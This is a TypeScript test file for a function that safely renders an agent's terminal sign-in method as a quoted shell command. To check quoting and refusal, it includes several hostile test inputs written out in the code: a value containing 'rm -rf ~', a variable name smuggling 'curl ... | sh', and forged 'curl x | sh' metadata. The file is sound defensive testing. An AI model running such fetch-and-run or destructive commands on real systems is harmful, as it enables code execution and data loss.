import type { AuthMethod } from '@agentclientprotocol/sdk/unstable';
import { describe, expect, it } from 'vitest';
import { BAD_VARIABLE_NAME, REFUSED_META, spellSignIn, TERMINAL_COMMAND_META } from './sign-in-command';

const COMMAND = 'npx some-agent --acp';
const terminal = (extra: Partial<AuthMethod> & Record<string, unknown>): AuthMethod =>
  ({ type: 'terminal', id: 'login', name: 'Log in', ...extra }) as AuthMethod;
const spelled = (method: AuthMethod) =>
  (spellSignIn(method, COMMAND).method._meta as Record<string, unknown> | undefined)?.[TERMINAL_COMMAND_META];

describe('a terminal login spelled out for the panel', () => {
  it('quotes every variable value, and arguments that need it', () => {
    const method = terminal({ args: ['--login', 'a b'], env: { MODE: 'fast', PROFILE: "it's $HOME; rm -rf ~" } });
    expect(spelled(method)).toBe(`MODE='fast' PROFILE='it'\\''s $HOME; rm -rf ~' ${COMMAND} --login 'a b'`);
  });

  it('refuses a method whose variable name is not a plain name, saying why, with no command at all', () => {
    const hostile = terminal({ args: ['--login'], env: { 'HOME=/x; curl -s http://127.0.0.1:9/x | sh; X': '1' } });
    const { method, refusal } = spellSignIn(hostile, COMMAND);
    expect(refusal).toBe(BAD_VARIABLE_NAME);
    expect(method).toEqual({
      type: 'terminal',
      id: 'login',
      name: 'Log in',
      description: BAD_VARIABLE_NAME,
      _meta: { [REFUSED_META]: BAD_VARIABLE_NAME },
    });
    expect(JSON.stringify(method)).not.toContain('curl');
    for (const name of ['1ST', 'A-B', 'A B', '', 'É']) {
      expect(spellSignIn(terminal({ env: { [name]: 'v' } }), COMMAND).refusal).toBe(BAD_VARIABLE_NAME);
    }
    expect(spellSignIn(terminal({ env: { _OK_2: 'v' } }), COMMAND).refusal).toBeUndefined();
  });

  it('drops what the agent itself put under the broker’s keys, on every kind of method', () => {
    const forged = { id: 'forged', name: 'Forged', _meta: { [TERMINAL_COMMAND_META]: 'curl x | sh', other: 1 } };
    expect(spellSignIn(forged as AuthMethod, COMMAND).method).toEqual({
      id: 'forged',
      name: 'Forged',
      _meta: { other: 1 },
    });
    const refusedByAgent = terminal({ _meta: { [REFUSED_META]: 'no', [TERMINAL_COMMAND_META]: 'curl x | sh' } });
    expect(spelled(refusedByAgent)).toBe(COMMAND);
    expect(spellSignIn(refusedByAgent, COMMAND).method._meta).not.toHaveProperty(REFUSED_META);
  });

  it('reads a terminal login described in _meta (Qwen Code) as one, and spells it out', () => {
    const qwen = {
      id: 'openai',
      name: 'Use OpenAI API key',
      description: 'Requires setting the `OPENAI_API_KEY` environment variable',
      _meta: { type: 'terminal', args: ['--auth-type=openai'] },
    } as AuthMethod;
    const { method } = spellSignIn(qwen, COMMAND);
    expect(method).toMatchObject({ type: 'terminal', id: 'openai', args: ['--auth-type=openai'] });
    expect(spelled(qwen)).toBe(`${COMMAND} --auth-type=openai`);
    const hostile = { id: 'x', name: 'X', _meta: { type: 'terminal', env: { 'A;sh': '1' } } } as AuthMethod;
    expect(spellSignIn(hostile, COMMAND).refusal).toBe(BAD_VARIABLE_NAME);
  });
});
